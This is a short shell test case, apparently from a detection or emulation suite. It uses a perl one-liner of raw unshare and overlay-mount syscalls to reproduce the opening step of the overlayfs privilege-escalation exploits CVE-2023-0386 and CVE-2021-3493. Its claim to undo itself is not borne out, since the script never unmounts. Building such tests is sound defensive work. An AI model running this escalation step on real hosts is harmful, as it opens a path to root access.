#!/bin/sh
# case: T1068-overlay-userns-perl
# technique: Exploitation: unshare(NEWUSER|NEWNS) and mount overlay from perl
# source: CVE-2023-0386; CVE-2021-3493
# needs: perl
# expect: priv escape
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need perl
[ "$(uname -m)" = x86_64 ] || exit 77
perl -e 'syscall(272,0x10000000|0x00020000);$t="overlay";$n="none";$m="/tmp";syscall(165,$n,$m,$t,0,"lowerdir=/etc,upperdir=/tmp,workdir=/tmp")'; true
exit 0
